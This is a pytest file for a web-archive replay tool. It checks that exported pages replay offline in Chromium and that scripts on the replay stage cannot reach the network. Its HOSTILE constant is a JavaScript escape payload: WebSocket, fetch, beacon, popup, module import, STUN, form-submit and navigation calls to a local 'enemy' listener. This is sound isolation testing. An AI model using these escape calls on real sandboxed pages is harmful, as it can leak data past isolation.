"""An export is replayed in a real browser, after its site is gone and with no way out."""

import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from socket import SOCK_DGRAM

import pytest

from sousveil.run.publish.exports import export_wacz
from sousveil.run.publish.output import Output
from tests.commands import sousveil
from tests.replay.player import PROGRAM, Ear, Served, Viewer, build, ear, quiet, served, viewer
from tests.sites import Page, case_for, serve

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
PHONE = 360

pytestmark = pytest.mark.skipif(PROGRAM is None, reason="no Chromium on PATH to replay in")

QUOTE = "The Argus system detects ethnicity in crowds"
PIXEL = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5">'
    b'<rect width="7" height="5"/></svg>'
)
MAIN = f"""<!doctype html><title>Argus</title><meta name="description" content="A made-up camera">
<p>{QUOTE.replace("detects ethnicity", "detects <b>ethni</b>city")}</p>
<p>系统可以识别
 民族 属性</p><img src="/pixel.svg"><iframe src="/frame"></iframe>
<p id="api">waiting</p><a id="away" href="https://other.example/">away</a>
<link rel="preconnect" href="https://preconnect.example">
<link rel="dns-prefetch" href="//dns.example">
<script>
fetch("/api").then(r => r.json()).then(v => document.getElementById("api").textContent = v.trait)
fetch("https://tracker.example/beacon", {{mode: "no-cors"}}).catch(() => 0)
new Image().src = "https://pixel.example/x.gif"
</script>"""
# What a script could do that got past the player, in the stage's own window.
HOSTILE = """(async () => {
const bar = location.origin.replace("replay.", "")
const tries = [
  () => new WebSocket("ws://127.0.0.1:PORT/socket"),
  () => fetch("http://127.0.0.1:PORT/fetch", {mode: "no-cors"}),
  () => navigator.sendBeacon("http://127.0.0.1:PORT/beacon", "x"),
  () => open("http://127.0.0.1:PORT/popup"),
  () => { document.body.append(Object.assign(new Image(), {src: "http://127.0.0.1:PORT/image"})) },
  () => import("http://127.0.0.1:PORT/module"),
  () => { document.body.append(Object.assign(document.createElement("iframe"),
    {src: "http://127.0.0.1:PORT/frame"})) },
  () => { parent.document.title = "taken" },
  () => { top.location = "http://127.0.0.1:PORT/top" },
  () => fetch(bar + "/", {mode: "no-cors"}),
  () => { document.head.append(Object.assign(document.createElement("link"),
    {rel: "preconnect", href: "http://127.0.0.1:PORT/ahead"})) },
  async () => {
    const peers = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT"}]})
    peers.createDataChannel("x")
    await peers.setLocalDescription(await peers.createOffer())
  },
]
const held = []
for (const each of tries) try { await each() } catch (error) { held.push(error.name) }
const form = Object.assign(document.createElement("form"), {action: "http://127.0.0.1:PORT/form"})
document.body.append(form)
setTimeout(() => form.submit(), 200)
setTimeout(() => location = "http://127.0.0.1:PORT/leave", 400)
return held.join()
})()"""


@dataclass(frozen=True, slots=True)
class Replayed:
    """A served export, and the ears where its site and its enemies would be heard."""

    served: Served
    site: str
    site_ear: Ear
    enemies: tuple[Ear, Ear]  # on one port: of connections, and of datagrams


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build(tmp_path_factory.mktemp("built"))


@pytest.fixture(scope="module")
def replayed(installed: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Replayed]:
    folder = tmp_path_factory.mktemp("replayed")
    with (
        pytest.MonkeyPatch.context() as patch,
        ear() as enemy,
        ear(enemy.port, SOCK_DGRAM) as peer,
    ):
        patch.setenv("SOUSVEIL_CONFIG", str(folder / "config"))
        with serve() as site:
            site.pages.update({
                "/": Page(MAIN.encode()),
                "/gbk": Page(
                    "<title>国标</title><p>本系统识别少数民族".encode("gbk"),
                    "text/html; charset=gbk",
                ),
                "/old": Page(b"", status=301, location="/gbk"),
                "/pixel.svg": Page(PIXEL, "image/svg+xml"),
                "/frame": Page(b"<p>In a frame: measures religion"),
                "/api": Page(b'{"trait": "from the API"}', "application/json"),
                "/paper.pdf": Page(b"%PDF-1.4\n%%EOF\n", "application/pdf"),
            })  # fmt: skip
            case = case_for(folder / "case", site)
            targets = [site.url + path for path in site.pages]
            assert sousveil("add", "--case", case.root, *targets).status == 0
            assert sousveil("visit", "--case", case.root).status == 0
        exported = folder / "case.wacz"
        export_wacz(case, (), Output(exported), now=NOW, progress=quiet)
        port = int(site.url.rpartition(":")[2])
        with ear(port) as site_ear, served(installed, exported) as running:
            yield Replayed(running, site.url, site_ear, (enemy, peer))


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Viewer]:
    with viewer(str(PROGRAM), tmp_path_factory.mktemp("profile")) as opened:
        yield opened


def stage(replayed: Replayed, path: str, **more: str) -> str:
    return replayed.served.page(replayed.served.stage, url=replayed.site + path, **more)


def bar(replayed: Replayed, path: str, **more: str) -> str:
    return replayed.served.page(replayed.served.bar, url=replayed.site + path, **more)


def test_a_page_is_replayed_with_its_picture_frame_and_data(
    browser: Viewer, replayed: Replayed
) -> None:
    browser.open(stage(replayed, "/"))
    browser.until("page()?.getElementById('api')?.textContent === 'from the API'")
    assert browser.until("page().querySelector('img').naturalWidth") == 7
    text = browser.until("page().querySelector('iframe').contentDocument?.body?.textContent")
    assert "measures religion" in str(text)
    assert browser.until("page().title") == "Argus"


@pytest.mark.parametrize("path", ["/gbk", "/old"])
def test_a_page_in_gbk_is_replayed_also_through_a_redirect(
    browser: Viewer, replayed: Replayed, path: str
) -> None:
    browser.open(stage(replayed, path))
    assert browser.until("page()?.querySelector('p')?.textContent") == "本系统识别少数民族"


@pytest.mark.parametrize(
    "quote",
    [QUOTE, "系统可以识别民族属性", "measures religion", "detects\u00adethnicity \u200bin\ncrowds"],
)
def test_a_quote_over_several_elements_lines_and_frames_is_marked(
    browser: Viewer, replayed: Replayed, quote: str
) -> None:
    browser.open(stage(replayed, "/", quote=quote))
    marked = (
        "(d => [d, d?.querySelector('iframe')?.contentDocument].map(each =>"
        " [...(each?.defaultView?.CSS.highlights.get('sousveil-quote') ?? [])].join('')).join(''))"
        "(page())"
    )
    found = str(browser.until(marked))
    drop = str.maketrans("", "", "\u00ad\u200b \n")
    assert found.translate(drop) == quote.translate(drop)


@pytest.mark.parametrize(
    ("quote", "state"),
    [(QUOTE, "found"), ("A made-up camera", "unmarked"), ("never written", "missing")],
)
def test_the_bar_says_what_is_shown_and_whether_the_quote_was_found(
    browser: Viewer, replayed: Replayed, quote: str, state: str
) -> None:
    browser.open(bar(replayed, "/", quote=quote), PHONE)
    browser.until(f"document.getElementById('quote').dataset.state === '{state}'")
    shown = str(browser.until("document.querySelector('header').innerText"))
    assert "Archived copy" in shown
    assert "not live" in shown
    assert replayed.site + "/" in shown
    assert f"captured {datetime.now(UTC):%Y}-" in shown
    assert quote in shown
    fits = "(root => root.scrollWidth <= root.clientWidth)(document.documentElement)"
    assert browser.chromium.evaluate(fits) is True
    not_in_the_file = f"{replayed.served.stage}/replay/w/"  # what the page asked of others
    assert [each for each in browser.complaints() if not_in_the_file not in each] == []


def test_an_address_that_is_not_in_the_file_is_said_to_be_missing(
    browser: Viewer, replayed: Replayed
) -> None:
    browser.open(bar(replayed, "/nowhere"))
    browser.until("document.getElementById('captured').textContent.includes('not in the file')")


def test_a_pdf_is_offered_in_a_window_of_its_own_and_a_page_is_not(
    browser: Viewer, replayed: Replayed
) -> None:
    browser.open(bar(replayed, "/paper.pdf"))
    browser.until("!document.getElementById('document').hidden")
    address = str(browser.until("document.getElementById('document').href"))
    assert address.startswith(replayed.served.stage + "/replay/w/file/")
    browser.open(bar(replayed, "/"))
    browser.until("document.getElementById('captured').textContent.startsWith('captured')")
    assert browser.chromium.evaluate("document.getElementById('document').hidden") is True
    browser.open(address.replace("/paper.pdf", "/"))
    browser.until("document.body.textContent.startsWith('Pages are shown below the bar only')")


def test_the_list_of_pages_opens_without_an_address(browser: Viewer, replayed: Replayed) -> None:
    browser.open(replayed.served.stage + "/")
    shown = (
        "(function all(node) { return node.shadowRoot ? all(node.shadowRoot)"
        " : node.localName === 'iframe' ? all(node.contentDocument)"
        " : node.nodeType === 3 ? node.data : [...node.childNodes].map(all).join(' ') })(document)"
    )
    browser.until(f"{shown}.includes('国标')")


def test_a_script_on_the_stage_reaches_neither_bar_nor_network(
    browser: Viewer, replayed: Replayed
) -> None:
    browser.open(bar(replayed, "/gbk"))
    browser.until("document.getElementById('captured').textContent.startsWith('captured')")
    script = HOSTILE.replace("PORT", str(replayed.enemies[0].port))
    assert str(browser.within(replayed.served.stage, script)).count("Error") >= 4
    time.sleep(2)
    assert str(browser.chromium.evaluate("document.title")).startswith("Archived copy")
    assert browser.chromium.evaluate("origin") == replayed.served.bar
    assert [each.heard for each in replayed.enemies] == [[], []]


def test_nothing_was_asked_of_the_site_nor_of_the_web(browser: Viewer, replayed: Replayed) -> None:
    assert replayed.site_ear.heard == []
    assert browser.way_out.heard == []
